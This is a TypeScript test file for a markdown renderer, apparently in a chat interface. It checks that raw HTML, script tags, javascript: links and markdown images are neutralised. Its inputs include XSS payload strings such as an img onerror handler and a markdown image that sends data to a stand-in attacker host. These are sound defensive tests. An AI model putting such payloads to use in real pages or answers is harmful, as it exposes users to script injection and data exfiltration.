// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown";

function render(markdown: string): HTMLElement {
  const container = document.createElement("div");
  container.innerHTML = renderMarkdown(markdown);
  return container;
}

function hasEventHandlerAttribute(root: HTMLElement): boolean {
  return Array.from(root.querySelectorAll("*")).some((element) =>
    Array.from(element.attributes).some((attribute) => attribute.name.toLowerCase().startsWith("on")),
  );
}

describe("renderMarkdown", () => {
  it("renders ordinary markdown", () => {
    const root = render("# Title\n\nSome **bold** and `code`.\n\n- one\n- two");
    expect(root.querySelector("h1")?.textContent).toBe("Title");
    expect(root.querySelector("strong")?.textContent).toBe("bold");
    expect(root.querySelectorAll("li")).toHaveLength(2);
  });

  it("neutralises <img src=x onerror=alert(1)>, shown as text instead", () => {
    for (const markdown of ["<img src=x onerror=alert(1)>", "Look: <img src=x onerror=alert(1)> here", "> <img src=x onerror=alert(1)>"]) {
      const root = render(markdown);
      expect(root.querySelector("img")).toBeNull();
      expect(hasEventHandlerAttribute(root)).toBe(false);
      expect(root.textContent).toContain("<img src=x onerror=alert(1)>");
    }
  });

  it("never produces a <script> element", () => {
    const root = render("<script>alert(1)</script>\n\n<div><script>alert(2)</script></div>");
    expect(root.querySelector("script")).toBeNull();
    expect(root.textContent).toContain("<script>alert(1)</script>");
  });

  it("drops javascript: links and opens the others safely in a new tab", () => {
    const root = render("[bad](javascript:alert(1)) and [good](https://example.org/)");
    const links = Array.from(root.querySelectorAll("a"));
    expect(links.some((link) => (link.getAttribute("href") ?? "").toLowerCase().startsWith("javascript:"))).toBe(false);
    const good = links.find((link) => link.textContent === "good");
    expect(good?.getAttribute("href")).toBe("https://example.org/");
    expect(good?.getAttribute("rel")).toContain("noopener");
    expect(good?.getAttribute("target")).toBe("_blank");
  });

  it("shows markdown images as links, so an answer cannot make the browser fetch a URL", () => {
    const root = render("![secret](https://attacker.example/collect?data=123)");
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelector("a")?.textContent).toBe("secret");
  });

  it("highlights fenced code blocks and escapes their content", () => {
    const root = render("```js\nconst x = '<b>';\n```");
    const code = root.querySelector("pre code");
    expect(code?.className).toContain("language-js");
    expect(code?.querySelector(".hljs-keyword")?.textContent).toBe("const");
    expect(code?.textContent).toBe("const x = '<b>';");
    expect(root.querySelector("b")).toBeNull();
  });

  it("escapes code blocks in unknown languages", () => {
    const root = render("```nosuchlang\n<img src=x onerror=alert(1)>\n```");
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelector("pre code")?.textContent).toBe("<img src=x onerror=alert(1)>");
  });

  it("copes with half-written markdown while streaming", () => {
    const root = render("Here is code:\n\n```python\ndef f(:\n");
    expect(root.querySelector("pre code")?.textContent).toContain("def f(:");
  });
});
